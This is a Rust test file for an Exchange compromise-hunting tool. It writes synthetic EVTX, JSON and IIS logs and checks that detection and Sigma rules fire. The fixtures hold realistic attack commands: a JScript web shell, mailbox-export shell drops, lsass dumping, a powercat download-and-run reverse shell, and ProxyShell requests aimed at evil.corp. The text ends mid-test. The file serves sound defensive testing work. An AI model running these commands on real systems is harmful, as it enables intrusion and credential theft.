//! End-to-end tests: EVTX written by the test writer and read back by the `evtx` crate, real
//! sample files (see fixtures/PROVENANCE.md), JSON exports, Sigma loading and the verdict.

use std::path::{Path, PathBuf};

use chrono::{DateTime, TimeZone, Utc};
use exhunt_core::discover::LogFile;
use exhunt_core::rules::{RuleSet, RuleSources};
use exhunt_core::scan::{scan_with, Hunter, ScanConfig};
use exhunt_core::{SourceKind, VerdictLevel};
use exhunt_events::evtx_writer::{EvtxWriter, WriterEvent};
use exhunt_events::{EventArgs, EventHunter, EventOptions};

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

fn t(min: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2021, 3, 3, 10, min, 0).unwrap()
}

fn embedded() -> RuleSet {
    RuleSet::load(&RuleSources {
        embedded: true,
        user_paths: vec![],
    })
}

fn log_file(p: &Path) -> LogFile {
    LogFile {
        path: p.to_path_buf(),
        rel: p.file_name().unwrap().to_string_lossy().into_owned(),
        kind: SourceKind::Evtx,
        size: std::fs::metadata(p).unwrap().len(),
        host: "EX01".into(),
    }
}

fn write(path: &Path, events: &[WriterEvent]) {
    let mut w = EvtxWriter::new();
    for e in events {
        w.add(e);
    }
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, w.finish()).unwrap();
}

fn proc4688(min: u32, parent: &str, image: &str, cmd: &str) -> WriterEvent {
    WriterEvent::new(
        "Security",
        "Microsoft-Windows-Security-Auditing",
        4688,
        "EX01.corp.local",
        t(min),
        &[
            ("SubjectUserName", "EX01$"),
            ("NewProcessName", image),
            ("CommandLine", cmd),
            ("ParentProcessName", parent),
        ],
    )
}

fn sysmon1(min: u32, parent: &str, image: &str, cmd: &str) -> WriterEvent {
    WriterEvent::new(
        SYSMON,
        "Microsoft-Windows-Sysmon",
        1,
        "EX01.corp.local",
        t(min),
        &[
            ("Image", image),
            ("OriginalFileName", image.rsplit('\\').next().unwrap()),
            ("CommandLine", cmd),
            ("ParentImage", parent),
            ("User", "NT AUTHORITY\\SYSTEM"),
        ],
    )
}

fn cmdlet(min: u32, id: u16, cmd: &str, params: &str) -> WriterEvent {
    let mut e = WriterEvent::new(
        "MSExchange Management",
        "MSExchange CmdletLogs",
        id,
        "EX01.corp.local",
        t(min),
        &[],
    );
    e.data = vec![
        (None, cmd.into()),
        (None, params.into()),
        (None, "corp.local/Users/Administrator".into()),
    ];
    e
}

/// The attack chain of the campaign, one event per rule family.
fn attack_events() -> Vec<(&'static str, Vec<WriterEvent>)> {
    let w3wp = r"c:\windows\system32\inetsrv\w3wp.exe";
    let mut um = WriterEvent::new(
        "Application",
        "MSExchange Unified Messaging",
        0,
        "EX01.corp.local",
        t(1),
        &[],
    );
    um.level = 2;
    um.data = vec![(None, "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to cast object".into())];
    let mut cleared = WriterEvent::new(
        "Security",
        "Microsoft-Windows-Eventlog",
        1102,
        "EX01.corp.local",
        t(40),
        &[],
    );
    cleared.user_data = Some((
        "LogFileCleared".into(),
        vec![("SubjectUserName".into(), "Administrator".into())],
    ));
    vec![
        ("Application.evtx", vec![um]),
        (
            "MSExchange Management.evtx",
            vec![
                cmdlet(2, 1, "Set-OabVirtualDirectory", "-ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>' -Identity 'OAB (Default Web Site)'"),
                cmdlet(3, 1, "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"administrator@corp.local\""),
                cmdlet(4, 1, "New-MailboxExportRequest", "-Mailbox \"administrator@corp.local\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx\""),
                cmdlet(5, 1, "Remove-MailboxExportRequest", "-Identity \"x\" -Confirm \"False\""),
                cmdlet(6, 1, "New-ExchangeCertificate", "-GenerateRequest -BinaryEncoded -RequestFile \"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\cert.aspx\""),
                cmdlet(7, 6, "Get-App", "Cmdlet failed. Cmdlet Get-App, parameters -Identity x. Task Get-App throwing unhandled exception: System.InvalidCastException: bad"),
            ],
        ),
        (
            "Security.evtx",
            vec![
                proc4688(10, w3wp, r"C:\Windows\System32\cmd.exe", r#"cmd /c "whoami""#),
                proc4688(11, w3wp, r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\windows\temp\lsass.dmp full"),
                proc4688(12, r"C:\Windows\System32\cmd.exe", r"C:\root\procdump64.exe", r"procdump64.exe -accepteula -ma lsass.exe c:\windows\temp\lsass.dmp"),
                proc4688(13, r"C:\Windows\System32\cmd.exe", r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a -t7z -pinfected c:\programdata\it.zip c:\programdata\pst"),
                proc4688(14, r"C:\Program Files\Microsoft\Exchange Server\V15\UnifiedMessaging\UMWorkerProcess.exe", r"C:\Windows\System32\net.exe", "net user"),
                WriterEvent::new("Security", "Microsoft-Windows-Security-Auditing", 4720, "EX01.corp.local", t(20), &[("TargetUserName", "backup_svc"), ("SubjectUserName", "Administrator")]),
                WriterEvent::new("Security", "Microsoft-Windows-Security-Auditing", 4732, "EX01.corp.local", t(21), &[("MemberSid", "S-1-5-21-1-2-3-1111"), ("TargetUserName", "Administrators"), ("TargetSid", "S-1-5-32-544")]),
                cleared,
            ],
        ),
        (
            "Microsoft-Windows-Sysmon%4Operational.evtx",
            vec![
                sysmon1(15, w3wp, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -c IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1'); powercat -c 10.0.0.5 -p 443 -e cmd"),
                WriterEvent::new(SYSMON, "Microsoft-Windows-Sysmon", 11, "EX01.corp.local", t(16), &[("Image", w3wp), ("TargetFilename", r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorEE.aspx")]),
            ],
        ),
        (
            "Microsoft-Windows-PowerShell%4Operational.evtx",
            vec![WriterEvent::new("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "EX01.corp.local", t(17), &[
                ("MessageNumber", "1"),
                ("ScriptBlockText", "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox | %{ New-MailboxExportRequest -Mailbox $_ -FilePath \\\\ex01\\c$\\programdata\\pst\\$_.pst }"),
            ])],
        ),
        (
            "System.evtx",
            vec![WriterEvent::new("System", "Service Control Manager", 7045, "EX01.corp.local", t(30), &[("ServiceName", "msupdate"), ("ImagePath", r"C:\Windows\Temp\msupdate.exe")])],
        ),
        (
            "Microsoft-Windows-Windows Defender%4Operational.evtx",
            vec![WriterEvent::new("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116, "EX01.corp.local", t(31), &[("Threat Name", "Backdoor:ASP/SecChecker.A"), ("Path", r"file:_C:\inetpub\wwwroot\aspnet_client\system_web\xx.aspx")])],
        ),
    ]
}

fn write_server(root: &Path, host: &str, logs: &[(&str, Vec<WriterEvent>)]) {
    for (name, events) in logs {
        write(
            &root
                .join(host)
                .join("C/Windows/System32/winevt/Logs")
                .join(name),
            events,
        );
    }
}

#[test]
fn writer_output_reads_back_with_the_evtx_crate() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("x.evtx");
    // Enough events for several chunks.
    let events: Vec<WriterEvent> = (0..2000)
        .map(|i| {
            proc4688(
                i % 60,
                r"C:\a\parent.exe",
                r"C:\Windows\System32\cmd.exe",
                &format!("cmd /c echo {i} ünïcödé"),
            )
        })
        .collect();
    write(&p, &events);
    let bytes = std::fs::read(&p).unwrap();
    assert!(bytes.len() > 3 * 65536, "several chunks: {}", bytes.len());
    let mut parser = evtx::EvtxParser::from_buffer(bytes)
        .unwrap()
        .with_configuration(
            evtx::ParserSettings::new()
                .validate_checksums(true)
                .num_threads(1),
        );
    let records: Vec<_> = parser.records_json_value().collect();
    assert_eq!(records.len(), 2000);
    let first = records[0].as_ref().expect("record parses");
    assert_eq!(first.event_record_id, 1);
    let sys = &first.data["Event"]["System"];
    assert_eq!(sys["Channel"], "Security");
    assert_eq!(sys["EventID"], 4688);
    assert_eq!(
        sys["Provider"]["#attributes"]["Name"],
        "Microsoft-Windows-Security-Auditing"
    );
    assert_eq!(
        sys["TimeCreated"]["#attributes"]["SystemTime"],
        "2021-03-03T10:00:00.0000000Z"
    );
    assert_eq!(
        first.data["Event"]["EventData"]["CommandLine"],
        "cmd /c echo 0 ünïcödé"
    );
    let last = records[1999].as_ref().unwrap();
    assert_eq!(last.data["Event"]["System"]["EventRecordID"], 2000);
    // XML rendering works too.
    let mut parser = evtx::EvtxParser::from_buffer(std::fs::read(&p).unwrap()).unwrap();
    let xml = parser.records().next().unwrap().unwrap().data;
    assert!(
        xml.contains("<Data Name=\"NewProcessName\">C:\\Windows\\System32\\cmd.exe</Data>"),
        "{xml}"
    );
}

#[test]
fn every_event_rule_compiles_and_has_metadata() {
    let rules = embedded();
    assert!(rules.event_rules.len() >= 20, "{}", rules.event_rules.len());
    let hunter = EventHunter::new(&rules, EventOptions::default());
    assert!(
        hunter.diagnostics().is_empty(),
        "{:#?}",
        hunter.diagnostics()
    );
    assert_eq!(hunter.rule_count(), rules.event_rules.len());
    for r in &rules.event_rules {
        assert!(
            !r.meta.references.is_empty() && !r.meta.attack.is_empty(),
            "{}",
            r.meta.id
        );
    }
}

#[test]
fn attack_chain_in_evtx_is_found_and_the_server_is_compromised() {
    let dir = tempfile::tempdir().unwrap();
    write_server(dir.path(), "EX01", &attack_events());
    let rules = embedded();
    let hunter = EventHunter::new(&rules, EventOptions::default());
    let report = scan_with(
        &ScanConfig::new(dir.path()),
        &rules,
        &[&hunter as &dyn Hunter],
    )
    .unwrap();
    let mut ids: Vec<&str> = report.findings.iter().map(|f| f.rule.id.as_str()).collect();
    ids.sort();
    ids.dedup();
    for want in [
        "EXH-EV-001",
        "EXH-EV-002",
        "EXH-EV-003",
        "EXH-EV-004",
        "EXH-EV-005",
        "EXH-EV-006",
        "EXH-EV-007",
        "EXH-EV-008",
        "EXH-EV-010",
        "EXH-EV-011",
        "EXH-EV-012",
        "EXH-EV-013",
        "EXH-EV-014",
        "EXH-EV-015",
        "EXH-EV-016",
        "EXH-EV-020",
        "EXH-EV-030",
        "EXH-EV-031",
        "EXH-EV-032",
        "EXH-EV-033",
        "EXH-EV-034",
        "EXH-EV-040",
        "EXH-EV-041",
    ] {
        assert!(ids.contains(&want), "{want} missing from {ids:?}");
    }
    let host = &report.hosts[0];
    assert_eq!(host.name, "EX01");
    assert_eq!(host.verdict, VerdictLevel::Compromised, "{}", host.reason);
    // Findings carry the event facts.
    let dump = report
        .findings
        .iter()
        .find(|f| f.rule.id == "EXH-EV-012")
        .unwrap();
    assert_eq!(dump.extra["channel"], "Security");
    assert_eq!(dump.extra["event_id"], 4688);
    assert_eq!(dump.extra["computer"], "EX01.corp.local");
    assert!(matches!(
        dump.location,
        exhunt_core::model::Location::Record { record_id: 2 }
    ));
    assert_eq!(dump.timestamp, Some(t(11)));
    assert!(
        dump.fields["CommandLine"].contains("MiniDump"),
        "{:?}",
        dump.fields
    );
    assert!(
        dump.evidence
            .starts_with("Security 4688 record 2 on EX01.corp.local"),
        "{}",
        dump.evidence
    );
    assert!(
        dump.path
            .ends_with("Windows/System32/winevt/Logs/Security.evtx"),
        "{}",
        dump.path
    );
    // Escalation: the mailbox export request is raised on a compromised server.
    let export = report
        .findings
        .iter()
        .find(|f| f.rule.id == "EXH-EV-003")
        .unwrap();
    assert_eq!(export.severity, exhunt_core::Severity::High);
    let cov = &host.coverage[&SourceKind::Evtx];
    assert_eq!(cov.files, 7);
    assert_eq!(cov.lines, 20);
}

#[test]
fn lsass_dump_by_a_w3wp_child_alone_makes_the_server_compromised() {
    let dir = tempfile::tempdir().unwrap();
    let w3wp = r"c:\windows\system32\inetsrv\w3wp.exe";
    write_server(
        dir.path(),
        "EX03",
        &[(
            "Microsoft-Windows-Sysmon%4Operational.evtx",
            vec![sysmon1(
                1,
                w3wp,
                r"C:\Windows\System32\rundll32.exe",
                r"rundll32.exe C:\windows\System32\comsvcs.dll MiniDump 644 C:\inetpub\wwwroot\aspnet_client\l.dmp full",
            )],
        )],
    );
    let rules = embedded();
    let hunter = EventHunter::new(&rules, EventOptions::default());
    let report = scan_with(
        &ScanConfig::new(dir.path()),
        &rules,
        &[&hunter as &dyn Hunter],
    )
    .unwrap();
    assert_eq!(
        report.hosts[0].verdict,
        VerdictLevel::Compromised,
        "{}",
        report.hosts[0].reason
    );
    assert!(
        report.hosts[0].reason.contains("EXH-EV-012"),
        "{}",
        report.hosts[0].reason
    );
}

#[test]
fn benign_server_events_raise_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let mut benign_um = WriterEvent::new(
        "Application",
        "MSExchange Unified Messaging",
        1001,
        "EX02",
        t(1),
        &[],
    );
    benign_um.level = 2;
    benign_um.data = vec![(None, "The UM call router could not reach the server".into())];
    write_server(dir.path(), "EX02", &[
        ("Application.evtx", vec![benign_um]),
        ("Security.evtx", vec![
            proc4688(2, r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs"),
            proc4688(3, r"c:\windows\system32\inetsrv\w3wp.exe", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe", "csc.exe /noconfig @tmp.cmdline"),
        ]),
        ("MSExchange Management.evtx", vec![cmdlet(4, 1, "Get-Mailbox", "-ResultSize Unlimited"), cmdlet(5, 1, "Set-OabVirtualDirectory", "-ExternalUrl 'https://mail.corp.com/OAB' -Identity 'EX02\\OAB (Default Web Site)'")]),
        ("System.evtx", vec![WriterEvent::new("System", "Service Control Manager", 7045, "EX02", t(6), &[("ServiceName", "MSExchangeHM"), ("ImagePath", r#""C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeHMHost.exe""#)])]),
    ]);
    let rules = embedded();
    let hunter = EventHunter::new(&rules, EventOptions::default());
    let report = scan_with(
        &ScanConfig::new(dir.path()),
        &rules,
        &[&hunter as &dyn Hunter],
    )
    .unwrap();
    let ids: Vec<&str> = report.findings.iter().map(|f| f.rule.id.as_str()).collect();
    assert!(ids.is_empty(), "{ids:?}");
    assert_eq!(report.hosts[0].verdict, VerdictLevel::NoEvidence);
}

#[test]
fn json_exports_are_read_and_bad_lines_counted() {
    let rules = embedded();
    let hunter = EventHunter::new(&rules, EventOptions::default());
    let c = hunter.hunt_file(&log_file(&fixture("export.jsonl")));
    let ids: Vec<&str> = c.findings.iter().map(|f| f.rule.id.as_str()).collect();
    for want in ["EXH-EV-002", "EXH-EV-003", "EXH-EV-004", "EXH-EV-005"] {
        assert!(ids.contains(&want), "{want} not in {ids:?}");
    }
    assert_eq!(c.coverage[0].2.lines, 3);
    assert!(
        c.issues
            .iter()
            .any(|i| i.kind == "json-bad-record" && i.line == Some(3)),
        "{:?}",
        c.issues
    );
    let rid = c
        .findings
        .iter()
        .find(|f| f.rule.id == "EXH-EV-002")
        .unwrap();
    assert_eq!(rid.extra["record_id"], 502);

    let c = hunter.hunt_file(&log_file(&fixture("export-evtx_dump.json")));
    let ids: Vec<&str> = c.findings.iter().map(|f| f.rule.id.as_str()).collect();
    assert_eq!(
        ids,
        ["EXH-EV-033", "EXH-EV-034", "EXH-EV-032"],
        "{:?}",
        c.issues
    );
    assert!(c.issues.is_empty(), "{:?}", c.issues);
}

#[test]
fn corrupt_chunk_is_counted_and_the_rest_is_read() {
    // omerbenamram/evtx sample: one chunk with a bad magic; the crate's own tests expect the
    // other chunks' records to be read.
    let hunter = EventHunter::new(&RuleSet::default(), EventOptions::default());
    let c = hunter.hunt_file(&log_file(&fixture("sample_with_a_bad_chunk_magic.evtx")));
    let records = c.coverage[0].2.lines;
    assert!(records > 200, "{records}");
    let summary = c
        .issues
        .iter()
        .find(|i| i.kind == "evtx-corrupt")
        .expect("corruption reported");
    assert_eq!(
        summary.message,
        "301 record(s) read; 2 chunk(s) and 1 record(s) could not be read and were skipped"
    );
    assert!(
        c.issues.iter().any(|i| i.kind == "evtx-bad-chunk"),
        "{:?}",
        c.issues
    );

    // A file that is not EVTX at all is one issue, not a panic.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("junk.evtx");
    std::fs::write(&p, b"ElfFile\0 truncated").unwrap();
    let c = hunter.hunt_file(&log_file(&p));
    assert_eq!(c.issues[0].kind, "evtx-unreadable");

    // A chunk whose records are overwritten with garbage: records counted, no panic.
    let mut w = EvtxWriter::new();
    for i in 0..400 {
        w.add(&proc4688(i % 60, "a", "b", &"x".repeat(200)));
    }
    let mut bytes = w.finish();
    for b in &mut bytes[4096 + 512 + 3000..4096 + 512 + 9000] {
        *b = 0x41;
    }
    std::fs::write(&p, &bytes).unwrap();
    let c = hunter.hunt_file(&log_file(&p));
    assert!(c.coverage[0].2.lines > 0);
    assert!(
        c.issues.iter().any(|i| i.kind == "evtx-corrupt"),
        "{:?}",
        c.issues
    );
}

#[test]
fn real_exchange_management_sample_is_read() {
    let dump = std::cell::Cell::new(0);
    let _ = &dump;
    let rules = embedded();
    let hunter = EventHunter::new(&rules, EventOptions::default());
    let c = hunter.hunt_file(&log_file(&fixture("MSExchange_Management_wec.evtx")));
    assert!(c.coverage[0].2.lines > 0);
    assert!(c.issues.is_empty(), "{:?}", c.issues);
    // A benign administration log: nothing above low.
    assert!(
        c.findings
            .iter()
            .all(|f| f.severity <= exhunt_core::Severity::Low),
        "{:?}",
        c.findings.iter().map(|f| &f.rule.id).collect::<Vec<_>>()
    );
}

#[test]
fn sigma_rules_load_run_on_sysmon_and_4688_and_list_what_is_unsupported() {
    let args = EventArgs {
        sigma: vec![fixture("sigma")],
        sigma_mapping: None,
        no_events: false,
    };
    let hunter = EventHunter::new(&RuleSet::default(), args.options());
    assert_eq!(hunter.rule_count(), 10, "{:#?}", hunter.diagnostics());
    let mut reasons: Vec<String> = hunter
        .unsupported()
        .iter()
        .map(|u| u.reason.clone())
        .collect();
    reasons.sort();
    assert_eq!(reasons.len(), 1);
    assert_eq!(
        hunter.web_rules().len(),
        1,
        "the webserver rule runs on IIS logs"
    );
    assert!(
        reasons.iter().any(|r| r.contains("aggregation")),
        "{reasons:?}"
    );
    assert!(
        hunter.diagnostics().iter().any(|d| d
            .rule_id
            .as_deref()
            .is_some_and(|i| i.ends_with("e009"))
            && d.message.contains("Security 4688")
            && d.message.contains("originalfilename")),
        "{:#?}",
        hunter.diagnostics()
    );

    let dir = tempfile::tempdir().unwrap();
    let w3wp = r"c:\windows\system32\inetsrv\w3wp.exe";
    let mut lsass = WriterEvent::new(
        SYSMON,
        "Microsoft-Windows-Sysmon",
        10,
        "EX01",
        t(9),
        &[
            ("SourceImage", r"C:\Windows\System32\rundll32.exe"),
            ("TargetImage", r"C:\Windows\System32\lsass.exe"),
            ("GrantedAccess", "0x1FFFFF"),
        ],
    );
    lsass.level = 4;
    write_server(dir.path(), "EX01", &[
        ("Security.evtx", vec![
            proc4688(1, w3wp, r"C:\Windows\System32\cmd.exe", "cmd /c whoami"),
            proc4688(2, w3wp, r"C:\Windows\System32\cmd.exe", "cmd /c MSExchangeHMHost probe"),
            proc4688(3, r"C:\x\cmd.exe", r"C:\Windows\System32\rundll32.exe", "rundll32 comsvcs.dll MiniDump 1 x full"),
            WriterEvent::new("Security", "Microsoft-Windows-Security-Auditing", 4720, "EX01", t(4), &[("TargetUserName", "evil")]),
            WriterEvent::new("Security", "Microsoft-Windows-Security-Auditing", 4720, "EX01", t(5), &[("TargetUserName", "EX05$")]),
        ]),
        ("Microsoft-Windows-Windows Defender%4Operational.evtx", vec![
            WriterEvent::new("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116, "EX01", t(14), &[("Threat Name", "Backdoor:ASP/Chopper.F!dha"), ("Path", r"file:_C:\inetpub\wwwroot\aspnet_client\a.aspx")]),
        ]),
        ("System.evtx", vec![
            // AccountName absent: Sigma's `null` holds.
            WriterEvent::new("System", "Service Control Manager", 7045, "EX01", t(11), &[("ServiceName", "a"), ("ImagePath", r"C:\a.exe")]),
            // AccountName present but empty: `null` does not hold (that is `''`).
            WriterEvent::new("System", "Service Control Manager", 7045, "EX01", t(12), &[("ServiceName", "b"), ("ImagePath", r"C:\b.exe"), ("AccountName", "")]),
            WriterEvent::new("System", "Service Control Manager", 7045, "EX01", t(13), &[("ServiceName", "c"), ("ImagePath", r"C:\c.exe"), ("AccountName", "LocalSystem")]),
        ]),
        ("Microsoft-Windows-Sysmon%4Operational.evtx", vec![
            sysmon1(6, w3wp, r"C:\Windows\System32\whoami.exe", "whoami /all"),
            sysmon1(7, r"C:\x\cmd.exe", r"C:\Windows\System32\rundll32.exe", "rundll32 comsvcs.dll MiniDump 1 x full"),
            lsass,
        ]),
        ("MSExchange Management.evtx", vec![cmdlet(8, 1, "New-MailboxExportRequest", "-Mailbox \"a\" -FilePath \"\\\\h\\c$\\x.aspx\"")]),
        ("Microsoft-Windows-PowerShell%4Operational.evtx", vec![WriterEvent::new("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "EX01", t(10), &[("ScriptBlockText", "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443);$stream = $client.GetStream()")])]),
    ]);
    let report = scan_with(
        &ScanConfig::new(dir.path()),
        &RuleSet::default(),
        &[&hunter as &dyn Hunter],
    )
    .unwrap();
    let hits: Vec<(String, u64)> = report
        .findings
        .iter()
        .map(|f| (f.rule.id.clone(), f.extra["event_id"].as_u64().unwrap()))
        .collect();
    let has = |id: &str, eid: u64| {
        hits.iter().any(|(i, e)| {
            i == &format!("SIGMA-0b1a5c2e-7e0d-4f0b-9a57-2c7c3fd9e00{id}") && *e == eid
        })
    };
    assert!(has("1", 4688), "w3wp child via 4688: {hits:?}");
    assert!(has("1", 1), "w3wp child via Sysmon 1: {hits:?}");
    assert!(
        has("2", 1) && !has("2", 4688),
        "OriginalFileName selection cannot match on 4688, which lacks the field: {hits:?}"
    );
    // A rule naming a Sysmon-only field still runs on 4688, where its other selection matches
    // (the Sigma specification: a missing field just does not match).
    assert!(has("9", 4688) && has("9", 1), "{hits:?}");
    // Provider_Name is the System element's Provider Name attribute.
    assert_eq!(
        hits.iter().filter(|(i, _)| i.ends_with("e010")).count(),
        2,
        "{hits:?}"
    );
    // Sigma's ThreatName is the event's "Threat Name" (spaces stripped, as the specification says).
    assert!(
        hits.iter().any(|(i, e)| i.ends_with("e012") && *e == 1116),
        "{hits:?}"
    );
    // `null`: absent only, not empty.
    let nulls: Vec<&exhunt_core::Finding> = report
        .findings
        .iter()
        .filter(|f| f.rule.id.ends_with("e011"))
        .collect();
    assert_eq!(nulls.len(), 1, "{hits:?}");
    assert!(
        nulls[0].evidence.contains("ServiceName=a"),
        "{}",
        nulls[0].evidence
    );
    assert!(has("3", 1), "keywords on MSExchange Management: {hits:?}");
    assert!(has("4", 4104), "script block: {hits:?}");
    assert!(has("7", 4720), "account created: {hits:?}");
    assert!(has("8", 10), "lsass access: {hits:?}");
    // Filters apply: the health-probe child and the computer account are not reported.
    assert_eq!(
        hits.iter().filter(|(i, _)| i.ends_with("e001")).count(),
        2,
        "{hits:?}"
    );
    assert_eq!(
        hits.iter().filter(|(i, _)| i.ends_with("e007")).count(),
        1,
        "{hits:?}"
    );
    let f = report
        .findings
        .iter()
        .find(|f| f.rule.id.ends_with("e001"))
        .unwrap();
    assert_eq!(f.rule.attack, ["T1505.003"]);
    assert_eq!(f.rule.cves, ["CVE-2021-26855"]);
    assert_eq!(f.rule.stage, exhunt_core::Stage::Backdoor);
}

#[test]
fn no_events_flag_disables_the_hunter() {
    let dir = tempfile::tempdir().unwrap();
    write_server(dir.path(), "EX01", &attack_events());
    let rules = embedded();
    let args = EventArgs {
        sigma: vec![],
        sigma_mapping: None,
        no_events: true,
    };
    let hunter = EventHunter::new(&rules, args.options());
    let report = scan_with(
        &ScanConfig::new(dir.path()),
        &rules,
        &[&hunter as &dyn Hunter],
    )
    .unwrap();
    assert!(report.findings.is_empty());
}

#[test]
fn real_cc0_sysmon_sample_matches_nothing_wrongly_and_reads_fully() {
    let rules = embedded();
    let hunter = EventHunter::new(&rules, EventOptions::default());
    let c = hunter.hunt_file(&log_file(&fixture("sysmon1-lsassy.evtx")));
    assert!(c.coverage[0].2.lines >= 10, "{}", c.coverage[0].2.lines);
    assert!(c.issues.is_empty(), "{:?}", c.issues);
}

#[test]
fn sigma_webserver_rules_run_on_iis_logs() {
    use exhunt_core::detect::{LogEngine, LogScanOptions};
    use exhunt_core::discover::LogFile;
    let args = EventArgs {
        sigma: vec![fixture("sigma/web_proxyshell.yml")],
        sigma_mapping: None,
        no_events: false,
    };
    let hunter = EventHunter::new(&RuleSet::default(), args.options());
    let engine = LogEngine::from_rules(hunter.web_rules().to_vec(), LogScanOptions::default());
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("u_ex210806.log");
    std::fs::write(
        &path,
        "#Software: Microsoft Internet Information Services 10.0\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n\
2021-08-06 10:00:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 198.51.100.9 python-requests/2.26.0 - 200 0 0 31\n\
2021-08-06 10:00:01 10.0.0.5 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=x 443 - 198.51.100.9 python-requests/2.26.0 - 401 0 0 31\n\
2021-08-06 10:00:02 10.0.0.5 GET /autodiscover/autodiscover.json Email=alice%40contoso.com&Protocol=ActiveSync 443 - 10.1.1.1 Outlook-iOS/2.0 - 200 0 0 31\n",
    )
    .unwrap();
    let scan = engine.scan_file(&LogFile {
        path: path.clone(),
        rel: "u_ex210806.log".into(),
        kind: exhunt_core::SourceKind::Iis,
        size: 0,
        host: "EX01".into(),
    });
    let lines: Vec<u64> = scan.findings.iter().map(|f| f.line().unwrap()).collect();
    assert_eq!(
        lines,
        vec![3],
        "the 401 is filtered and the benign request does not match"
    );
    assert!(scan.findings[0].rule.id.starts_with("SIGMA-"));
}

/// A small deterministic generator (xorshift), so failures replay.
struct Flips(u64);

impl Flips {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[test]
fn mutated_evtx_files_never_stop_the_hunt() {
    // Damage real EVTX bytes (the writer's records and a real Windows sample) at random places:
    // header, chunk headers, string and template tables, record bodies. Every file must come
    // back as a result (records, issues), never as a panic.
    let hunter = EventHunter::new(&embedded(), EventOptions::default());
    let mut w = EvtxWriter::new();
    for (_, events) in attack_events() {
        for e in events {
            w.add(&e);
        }
    }
    let originals = [
        w.finish(),
        std::fs::read(fixture("sample_with_a_bad_chunk_magic.evtx")).unwrap(),
    ];
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("mutated.evtx");
    let mut rng = Flips(0x2545_F491_4F6C_DD1D);
    for round in 0..160 {
        let mut bytes = originals[round % originals.len()].clone();
        let flips = 1 + rng.next() % 24;
        for _ in 0..flips {
            // Half the damage lands in the first chunk's header and tables, where the parser
            // follows offsets; the rest anywhere.
            let at = if rng.next().is_multiple_of(2) {
                4096 + (rng.next() % 1024) as usize
            } else {
                (rng.next() % bytes.len() as u64) as usize
            };
            bytes[at] = rng.next() as u8;
        }
        if round.is_multiple_of(7) {
            let cut = (rng.next() % bytes.len() as u64) as usize;
            bytes.truncate(cut);
        }
        std::fs::write(&p, &bytes).unwrap();
        let c = hunter.hunt_file(&log_file(&p));
        assert_eq!(
            c.coverage.len(),
            1,
            "round {round}: one coverage entry per file"
        );
    }
}

#[test]
fn a_sigma_mapping_file_replaces_the_embedded_one() {
    // A collection that forwarded the Security log into ForwardedEvents: the embedded mapping
    // looks in Security and finds nothing; a user mapping pointing `service: security` there
    // finds the account creation.
    let dir = tempfile::tempdir().unwrap();
    write_server(
        dir.path(),
        "EX01",
        &[(
            "ForwardedEvents.evtx",
            vec![WriterEvent::new(
                "ForwardedEvents",
                "Microsoft-Windows-Security-Auditing",
                4720,
                "EX01",
                t(4),
                &[("TargetUserName", "evil")],
            )],
        )],
    );
    let mapping = dir.path().join("forwarded.yml");
    std::fs::write(
        &mapping,
        "name: forwarded\nfields: {Provider_Name: Provider}\nservices:\n  security: [{channel: ForwardedEvents}]\n",
    )
    .unwrap();
    let run = |mapping: Option<PathBuf>| {
        let hunter = EventHunter::new(
            &RuleSet::default(),
            EventOptions {
                sigma_dirs: vec![fixture("sigma/win_security_provider_name.yml")],
                sigma_mapping: mapping,
                ..Default::default()
            },
        );
        let report = scan_with(
            &ScanConfig::new(dir.path()),
            &RuleSet::default(),
            &[&hunter as &dyn Hunter],
        )
        .unwrap();
        (hunter.diagnostics().to_vec(), report.findings.len())
    };
    assert_eq!(run(None).1, 0);
    let (diags, n) = run(Some(mapping.clone()));
    assert_eq!(n, 1, "{diags:#?}");
    // A broken mapping is an error, and no Sigma rule runs with a half-read mapping.
    std::fs::write(&mapping, "services: [not, a, map]\n").unwrap();
    let (diags, n) = run(Some(mapping));
    assert_eq!(n, 0);
    assert!(
        diags
            .iter()
